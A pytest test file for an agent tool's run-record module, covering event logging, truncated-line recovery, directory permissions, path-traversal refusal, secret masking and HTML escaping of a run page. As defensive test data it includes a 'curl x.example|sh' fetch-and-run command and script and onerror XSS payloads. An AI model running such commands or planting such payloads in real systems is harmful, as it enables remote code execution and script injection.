"""J1: events are on disk, whole, before the next thing happens; what was cut short is left out."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from vademecum.errors import PathRefused, RecordDamaged
from vademecum.masking import Secrets
from vademecum.pages.run import run_page
from vademecum.runs.record import Event, Record, masked, new_run
from vademecum.runs.stored import read_run, run_ids, timeline


def written(tmp_path: Path, **env: str) -> Record:
    return Record(new_run(tmp_path), secrets=Secrets(env), clock=lambda: 1.0)


def test_events_are_read_back(tmp_path: Path) -> None:
    record = written(tmp_path)
    record.add("run_started", request="x", model="m", skills=1)
    record.add("odd", text="line\nbreak \u2028 \ud800", path=Path("/x"))
    run = read_run(tmp_path, record.run_id)
    assert [(e.number, e.type) for e in run.events] == [(1, "run_started"), (2, "odd")]
    assert (run.request, run.status, run.answer) == ("x", "unfinished", "")
    record.close()


@pytest.mark.parametrize("cut", [1, 5, 30])
def test_a_last_line_that_was_cut_short(tmp_path: Path, cut: int) -> None:
    record = written(tmp_path)
    for number in range(3):
        record.add("x", number=number)
    record.close()
    file = record.place / "events.jsonl"
    file.write_bytes(file.read_bytes()[:-cut])
    assert len(read_run(tmp_path, record.run_id).events) == 2


def test_records_are_closed_to_other_users(tmp_path: Path) -> None:
    place = new_run(tmp_path / ".agent/runs")
    assert [stat.S_IMODE(each.stat().st_mode) for each in (place, place.parent)] == [0o700, 0o700]


def test_damage_in_the_middle_is_said(tmp_path: Path) -> None:
    record = written(tmp_path)
    record.add("x")
    record.close()
    file = record.place / "events.jsonl"
    file.write_bytes(b"{broken\n" + file.read_bytes())
    with pytest.raises(RecordDamaged, match=r"Line 1 of .*events\.jsonl is damaged"):
        read_run(tmp_path, record.run_id)


def test_runs_that_are_not_there(tmp_path: Path) -> None:
    with pytest.raises(RecordDamaged, match="there are none"):
        read_run(tmp_path, "nope")
    with pytest.raises(PathRefused):
        read_run(tmp_path, "../x")
    assert run_ids(tmp_path / "none") == []


def test_texts_are_kept_once_and_without_secrets(tmp_path: Path) -> None:
    record = written(tmp_path, A_TOKEN="abcdefghij")
    first, second = record.keep("has abcdefghij in it"), record.keep("has abcdefghij in it")
    assert first == second
    assert (record.place / first).read_text() == "has [secret] in it"
    record.add("x", text="Bearer abcdefghij12")
    record.finish({"status": "done", "stop_reason": "", "answer": "abcdefghij", "stats": {}})
    assert "abcdefghij" not in "".join(f.read_text() for f in record.place.rglob("*") if f.is_file())
    assert json.loads((record.place / "run.json").read_bytes())["answer"] == "[secret]"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('password = os.system("curl x.example|sh")', 'password = os.system("curl x.example|sh")'),
        ('token: str = os.environ.get("T", "")', 'token: str = os.environ.get("T", "")'),
        ("password = correct-horse-battery", "password = [secret]"),
        ("password=hunter2(very-long!", "password=[secret]"),
        ("password: Tr(ub4dor-3xyz", "password: [secret]"),
        ("Bearer abcdefgh12345(", "Bearer [secret]"),
        ('"token": "abcdefgh12345678"', '"token": "[secret]"'),
    ],
)
def test_a_program_in_the_record_stays_readable(text: str, shown: str) -> None:
    assert masked(text, Secrets({})) == shown


def test_a_secret_is_masked_from_when_it_is_known(tmp_path: Path) -> None:
    heard: list[Event] = []
    secrets = Secrets({})
    record = Record(new_run(tmp_path), secrets=secrets, listener=heard.append)
    record.add("before", text="Y29ycmVjdC1ob3JzZQ== is not known yet")
    secrets.add(["correct-horse"])
    record.add("after", text="Y29ycmVjdC1ob3JzZQ==", parts=[{"correct-horse": ("correct-horse",)}])
    record.add_bounded("cut", text="correct-horse" * 1000)
    record.finish({"status": "done", "stop_reason": "", "answer": "correct-horse", "stats": {}})
    _, after, cut, finished = [event.data for event in heard]
    assert after == {"text": "[secret]", "parts": [{"[secret]": ["[secret]"]}]}
    assert (cut["text"], finished["answer"]) == ("[secret]", "[secret]")
    assert "correct-horse" not in "".join(f.read_text() for f in record.place.rglob("*") if f.is_file())


def test_runs_of_one_index_share_its_snapshot(tmp_path: Path) -> None:
    content = {"skills": 1}
    for _ in range(3):
        record = written(tmp_path)
        record.snapshot("sha256:abc", content)
        assert json.loads((record.place / "index.json").read_text()) == {"skills": 1}
        record.close()
    assert (record.place / "index.json").stat().st_nlink == 4
    (tmp_path / ".index/abc.json").write_text("forged")
    record = written(tmp_path)
    record.snapshot("sha256:abc", content)
    assert json.loads((record.place / "index.json").read_text()) == {"skills": 1}
    record.close()


def test_a_listener_hears_everything_and_what_passes_by(tmp_path: Path) -> None:
    heard: list[Event] = []
    record = Record(new_run(tmp_path), secrets=Secrets({}), listener=heard.append)
    record.add("x")
    record.passing("piece", text="a")
    record.close()
    assert [(e.number, e.type) for e in heard] == [(1, "x"), (0, "piece")]
    assert len(read_run(tmp_path, record.run_id).events) == 1


def test_ids_sort_by_time(tmp_path: Path) -> None:
    names = [new_run(tmp_path, clock=lambda n=n: 1_700_000_000 + n / 500).name for n in range(50)]  # type: ignore[misc]
    assert names == sorted(names)


def test_a_page_is_harmless(tmp_path: Path) -> None:
    record = written(tmp_path)
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    record.add("run_started", request=evil, model=evil, skills=1, agent=evil)
    record.add("action", action="run_script", payload={"skill": {"name": evil}, "relative_path": evil})
    record.add("observation", line=evil, code="x", kept=record.keep(evil), characters=1)
    record.add("run_finished", status="done", stop_reason=evil, answer=evil, stats={})
    page = run_page(read_run(tmp_path, record.run_id))
    assert page.count("<script") == 1
    assert "<img" not in page
    assert "http" not in page.replace("http-equiv", "")
    assert len(timeline(read_run(tmp_path, record.run_id))) == 4
    record.close()
